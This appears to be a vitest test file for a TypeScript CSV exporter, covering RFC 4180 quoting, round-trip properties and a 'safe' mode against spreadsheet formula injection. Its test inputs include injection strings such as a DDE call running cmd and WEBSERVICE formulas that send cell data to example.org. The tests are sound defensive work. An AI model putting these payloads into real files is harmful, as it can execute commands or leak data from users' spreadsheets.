import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { columnsOf } from '../../src/export/columns.ts';
import { toCsv } from '../../src/export/csv.ts';
import { collect, pagesOf, parseCsv } from './read-back.ts';

const columns = columnsOf(z.object({ id: z.string(), note: z.string().nullable(), value: z.number() }));
const csvOf = (rows: readonly unknown[], safe = false) => collect(toCsv(columns, pagesOf(rows, 3), { safe }));

describe('toCsv', () => {
  it('writes RFC 4180: a header, CRLF, quotes only where needed', async () => {
    const rows = [
      { id: 'a', note: 'plain', value: 1 },
      { id: 'b', note: 'say "no", twice', value: -0.5 },
      { id: 'c', note: 'two\nlines', value: 0 },
      { id: 'd', note: null, value: 1e21 },
    ];
    expect(await csvOf(rows)).toBe(
      'id,note,value\r\na,plain,1\r\nb,"say ""no"", twice",-0.5\r\nc,"two\nlines",0\r\nd,,1e+21\r\n',
    );
  });

  it('has a header when there is no row', async () => {
    expect(await csvOf([])).toBe('id,note,value\r\n');
  });

  it('gives every text back as it was', async () => {
    const note = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('"', ',', '\r\n', '\r', '""\n,', ' x ', '\0'));
    const row = fc.record({ id: fc.string({ unit: 'binary', minLength: 1 }), note, value: fc.double({ noNaN: true }) });
    await fc.assert(
      fc.asyncProperty(fc.array(row, { maxLength: 8 }), async (rows) => {
        const [, ...read] = parseCsv(await csvOf(rows));
        expect(read).toEqual(rows.map((one) => [one.id, one.note, String(one.value)]));
      }),
      { seed: 49, numRuns: 100 },
    );
  });

  const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];
  const ENDS = [
    'SUM(A1)',
    'cmd|/c calc!A1',
    'HYPERLINK("https://example.org","x")',
    '',
    '40 °C',
    '"quoted"',
    'DDE("cmd";"/c calc";"x")',
    'WEBSERVICE("https://example.org/"&A1)',
    'IMPORTXML("https://example.org","//a")',
    '1+1',
    "'Sheet 1'!A1",
    '{1;2}',
    'A1,A2',
    ' 1',
    '=1',
    '\r\n=1',
    '1\t=2',
  ];
  const hostile = STARTS.flatMap((start) => ENDS.map((rest) => start + rest));

  it('has two hundred formulas to try', () => expect(new Set(hostile).size).toBeGreaterThanOrEqual(200));

  it.each([true, false])('formulas, safe=%s', async (safe) => {
    const rows = hostile.map((note) => ({ id: note, note, value: -1 }));
    const [, ...read] = parseCsv((await csvOf(rows, safe)).replace(/^\uFEFF/, ''));
    expect(read).toEqual(hostile.map((note) => [safe ? `'${note}` : note, safe ? `'${note}` : note, '-1']));
  });

  it('marks a safe file as UTF-8 and leaves harmless text alone', async () => {
    const text = await csvOf([{ id: 'é', note: "it's 5 - 3", value: -40 }], true);
    expect(text).toBe("\uFEFFid,note,value\r\né,it's 5 - 3,-40\r\n");
  });

  it('lets an error through after the rows before it', async () => {
    async function* breaking() {
      yield [{ id: 'a', note: null, value: 1 }];
      throw new Error('gone');
    }
    const text = toCsv(columns, breaking(), { safe: false });
    expect((await text.next()).value).toBe('id,note,value\r\n');
    expect((await text.next()).value).toBe('a,,1\r\n');
    await expect(text.next()).rejects.toThrow('gone');
  });
});
